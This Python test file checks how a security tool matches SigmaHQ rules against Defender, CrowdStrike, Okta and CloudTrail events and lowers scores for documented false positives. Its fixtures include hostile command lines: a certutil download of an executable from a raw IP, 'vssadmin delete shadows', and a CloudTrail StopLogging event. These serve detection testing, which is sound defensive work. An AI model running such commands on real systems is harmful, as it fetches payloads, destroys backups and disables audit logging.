"""Sigma hits in the built-in analyst: mapped Defender rows and alert evidence, CrowdStrike process fields and
cloud audit events fire SigmaHQ rules, cited with title, id and author; counted once, capped, and weighed down
when the rule's documented false positive fits the context."""

from __future__ import annotations

from typing import Any

from tests.ai.alerts import alert
from tests.ai.steps import HUNTING, hunting
from tests.ai.steps import facts as _facts
from vigil.ai.builtin.analysis import analyze
from vigil.ai.builtin.rules.sigma import FALSE_POSITIVE_WEIGHT, RULE_PREFIX, sigma_signals
from vigil.ai.builtin.scoring import score_evidence
from vigil.ai.schemas import Evidence, EvidenceKind, EvidenceStatus
from vigil.core.entities import Entities
from vigil.evidence.knowledge import Category
from vigil.evidence.signals import Signal

CERTUTIL = "Suspicious File Downloaded From Direct IP Via Certutil.EXE"
CERTUTIL_CLI = "certutil.exe -urlcache -split -f http://203.0.113.9/a.exe C:\\Users\\Public\\a.exe"


def _process_row(image: str, command_line: str, parent: str = "C:\\Windows\\System32\\cmd.exe", **extra: str) -> dict:
    return {
        "ActionType": "ProcessCreated",
        "DeviceName": "ws-1",
        "FileName": image.rsplit("\\", 1)[-1],
        "FolderPath": image,
        "ProcessCommandLine": command_line,
        "InitiatingProcessFileName": parent.rsplit("\\", 1)[-1],
        "InitiatingProcessFolderPath": parent,
        "AccountName": "jdoe",
    } | extra


DEFENDER = alert("microsoft_defender", "Suspicious process", {"title": "Suspicious process"})


def _by_title(signals: list[Signal]) -> dict[str, Signal]:
    return {signal.finding.split("'")[1]: signal for signal in signals if signal.rule.startswith(RULE_PREFIX)}


def test_a_defender_certutil_row_fires_the_certutil_rule_cited_by_its_mapped_column() -> None:
    row = _process_row("C:\\Windows\\System32\\certutil.exe", CERTUTIL_CLI)
    hits = _by_title(sigma_signals(DEFENDER, {}, [_mde_hunting(row)], Entities()))
    signal = hits[CERTUTIL]
    assert signal.rule == f"{RULE_PREFIX}13e6fe51-d478-4c7e-b0f2-6da9b400a829"
    assert signal.finding == (
        f"[SIGMA] '{CERTUTIL}' (id 13e6fe51-d478-4c7e-b0f2-6da9b400a829, level high, author Nasreddine "
        "Bencherchali (Nextron Systems)) matched mde.hunting.results[0].ProcessCommandLine"
    )
    assert (signal.source, signal.skill_id, signal.locator) == ("mde.hunting", HUNTING, "results[0].ProcessCommandLine")
    assert signal.quote == CERTUTIL_CLI and signal.points == 2.0
    assert "command-and-control" in signal.tactics and "T1105" in signal.techniques


def test_a_folder_path_without_the_file_name_is_joined_with_it() -> None:
    row = _process_row("C:\\Windows\\System32", CERTUTIL_CLI, FileName="certutil.exe")
    assert CERTUTIL in _by_title(sigma_signals(DEFENDER, {}, [_mde_hunting(row)], Entities()))


def test_rows_of_other_tables_are_tried_only_against_their_own_category() -> None:
    network = {
        "ActionType": "ConnectionSuccess",
        "RemoteIP": "203.0.113.9",
        "InitiatingProcessCommandLine": CERTUTIL_CLI,
    }
    assert not sigma_signals(DEFENDER, {}, [_mde_hunting(network)], Entities())


def test_defender_alert_process_evidence_is_matched_as_process_creation() -> None:
    body = {
        "title": "Suspicious download",
        "evidence": [
            {"entityType": "File", "fileName": "a.exe", "filePath": "C:\\Users\\Public"},
            {
                "entityType": "Process",
                "fileName": "certutil.exe",
                "filePath": "C:\\Windows\\System32",
                "processCommandLine": CERTUTIL_CLI,
                "parentProcessFileName": "cmd.exe",
                "parentProcessFilePath": "C:\\Windows\\System32",
            },
        ],
    }
    defender = alert("microsoft_defender", "Suspicious download", body)
    signal = _by_title(sigma_signals(defender, body, [], Entities()))[CERTUTIL]
    assert (signal.source, signal.locator) == ("alert", "evidence[1].processCommandLine")
    assert signal.finding.endswith("matched evidence[1].processCommandLine")


def test_crowdstrike_process_fields_fire_process_rules() -> None:
    body = {
        "metadata": {"eventType": "DetectionSummaryEvent"},
        "event": {
            "SeverityName": "High",
            "FileName": "certutil.exe",
            "FilePath": "\\Device\\HarddiskVolume2\\Windows\\System32",
            "CommandLine": CERTUTIL_CLI,
            "ParentImageFileName": "\\Device\\HarddiskVolume2\\Windows\\System32\\cmd.exe",
            "UserName": "jdoe",
        },
    }
    falcon = alert("crowdstrike", "Suspicious Activity", body)
    signal = _by_title(sigma_signals(falcon, body, [], Entities()))[CERTUTIL]
    assert signal.locator == "event.CommandLine" and signal.entities == ("jdoe",)


def test_an_okta_system_log_event_fires_the_okta_rules() -> None:
    event = {"eventType": "user.account.privilege.grant", "actor": {"alternateId": "admin@example.com"}}
    okta = alert("okta", "user.account.privilege.grant", event)
    signal = _by_title(sigma_signals(okta, event, [], Entities()))["Okta Admin Role Assigned to an User or Group"]
    assert signal.locator == "eventType" and signal.quote == "user.account.privilege.grant"
    assert "persistence" in signal.tactics


def test_a_cloudtrail_record_inside_an_eventbridge_envelope_is_matched() -> None:
    body = {
        "detail-type": "AWS API Call via CloudTrail",
        "detail": {"eventSource": "cloudtrail.amazonaws.com", "eventName": "StopLogging"},
    }
    aws = alert("aws", "CloudTrail StopLogging", body)
    hits = _by_title(sigma_signals(aws, body, [], Entities()))
    assert hits["AWS CloudTrail Important Change"].locator.startswith("detail.")


def test_one_rule_on_several_rows_and_sources_counts_once() -> None:
    row = _process_row("C:\\Windows\\System32\\certutil.exe", CERTUTIL_CLI)
    evidence = [_mde_hunting(row, row), _mde_hunting(row, name="mde.hunting.again")]
    signals = [s for s in score_evidence(DEFENDER, Entities(), evidence) if s.finding.split("'")[1:2] == [CERTUTIL]]
    assert [s.source for s in signals] == ["mde.hunting", "mde.hunting.again"]
    # The first sighting counts (how much depends on the step's per-source cap beside H4, the same certutil use).
    assert signals[0].points > 0 and signals[1].points == 0.0
    assert signals[1].finding.endswith("(also seen, counted once)")


def test_a_sources_sigma_hits_add_up_to_at_most_twice_its_strongest() -> None:
    rows = [
        _process_row("C:\\Windows\\System32\\certutil.exe", CERTUTIL_CLI),
        _process_row("C:\\Windows\\System32\\whoami.exe", "whoami /priv", parent="C:\\Windows\\System32\\cmd.exe"),
        _process_row("C:\\Windows\\System32\\vssadmin.exe", "vssadmin delete shadows /all /quiet"),
    ]
    signals = sigma_signals(DEFENDER, {}, [_mde_hunting(*rows)], Entities())
    strongest = max(3.0 if "level critical" in s.finding else 2.0 for s in signals)
    assert len(signals) >= 3 and sum(s.points for s in signals) <= 2 * strongest + 0.05  # each scaled share is rounded


def test_an_administrators_share_mount_counts_for_less_with_an_admin_account() -> None:
    title = "Windows Admin Share Mount Via Net.EXE"
    cli = "net use \\\\fs-01\\C$ /user:ACME\\adm-jdoe"
    plain = _process_row("C:\\Windows\\System32\\net.exe", cli)
    admin = _process_row("C:\\Windows\\System32\\net.exe", cli, AccountName="adm-jdoe")
    full = _by_title(sigma_signals(DEFENDER, {}, [_mde_hunting(plain)], Entities()))[title]
    weighed = _by_title(sigma_signals(DEFENDER, {}, [_mde_hunting(admin)], Entities()))[title]
    assert weighed.points < full.points  # the source's other hits share the cap, so compare, not multiply
    assert "documented false positive 'Administrators' fits: adm-jdoe is an administrator account" in weighed.finding


def test_an_installer_started_by_the_deployment_agent_counts_for_less() -> None:
    title = "Msiexec Quiet Installation"
    cli = "msiexec.exe /i C:\\Windows\\ccmcache\\a\\agent.msi /quiet"
    by_agent = _process_row("C:\\Windows\\System32\\msiexec.exe", cli, parent="C:\\Windows\\CCM\\CcmExec.exe")
    weighed = _by_title(sigma_signals(DEFENDER, {}, [_mde_hunting(by_agent)], Entities()))[title]
    assert "started by the software-deployment agent ccmexec.exe" in weighed.finding
    assert weighed.points == 1.0 * FALSE_POSITIVE_WEIGHT


def test_an_approved_tool_fact_explains_legitimate_use_and_is_cited() -> None:
    title = "Remote Access Tool - AnyDesk Execution"
    row = _process_row("C:\\Program Files (x86)\\AnyDesk\\AnyDesk.exe", '"AnyDesk.exe" --control')
    fact = {
        "id": "f1",
        "kind": "approved_tool",
        "value": "AnyDesk",
        "scope": None,
        "reason": "help desk remote support",
        "owner": "alice@acme.example",
        "created_by": "alice@acme.example",
        "expires_at": 1803859200,
    }
    without = _by_title(sigma_signals(DEFENDER, {}, [_mde_hunting(row)], Entities()))[title]
    weighed = _by_title(sigma_signals(DEFENDER, {}, [_mde_hunting(row), _facts(fact)], Entities()))[title]
    assert weighed.points < without.points
    assert "AnyDesk is an approved tool of the organization (fact by alice@acme.example, expires 2027-03-01)" in (
        weighed.finding
    )
    scoped = _by_title(sigma_signals(DEFENDER, {}, [_mde_hunting(row), _facts(fact | {"scope": "ws-9"})], Entities()))
    assert scoped[title].points == without.points  # a fact only explains what it covers


def test_the_case_citation_names_title_id_and_author() -> None:
    row = _process_row("C:\\Windows\\System32\\certutil.exe", CERTUTIL_CLI)
    evidence = [_mde_hunting(row)]
    analysis = analyze(DEFENDER, Category.ENDPOINT_MALWARE, Entities(), evidence)
    cited = next(c for c in analysis.citations if c.rule == f"{RULE_PREFIX}13e6fe51-d478-4c7e-b0f2-6da9b400a829")
    assert f"'{CERTUTIL}'" in cited.finding and "id 13e6fe51-d478-4c7e-b0f2-6da9b400a829" in cited.finding
    assert "author Nasreddine Bencherchali (Nextron Systems)" in cited.finding


def test_legitimate_activity_the_person_confirmed_counts_for_less() -> None:
    title = "Scheduled Task Creation Via Schtasks.EXE"
    row = _process_row("C:\\Windows\\System32\\schtasks.exe", 'schtasks.exe /create /tn "sync" /tr "a.exe" /sc hourly')
    answer = Evidence(
        step_name="Ask the user",
        kind=EvidenceKind.CHECKPOINT,
        status=EvidenceStatus.OK,
        output={"answer": "confirmed", "answered_by": "jdoe@acme.example"},
    )
    without = _by_title(sigma_signals(DEFENDER, {}, [_mde_hunting(row)], Entities()))[title]
    weighed = _by_title(sigma_signals(DEFENDER, {}, [_mde_hunting(row), answer], Entities()))[title]
    assert weighed.points < without.points
    assert weighed.finding.endswith(
        "the rule's documented false positive 'Administrative activity' fits: jdoe@acme.example confirmed the "
        "activity was theirs"
    )


def test_a_rule_that_matches_only_on_what_a_row_lacks_is_no_evidence() -> None:
    """'Execution Of Non-Existing File' fires on a process without a path; a row that omits it shows nothing."""
    row = {"ActionType": "ProcessCreated", "FileName": "pythonw.exe", "ProcessCommandLine": "pythonw.exe sync.py"}
    assert "Execution Of Non-Existing File" not in _by_title(
        sigma_signals(DEFENDER, {}, [_mde_hunting(row)], Entities())
    )


def _mde_hunting(*rows: dict[str, Any], name: str = "mde.hunting") -> Evidence:
    return hunting(*rows, name=name)
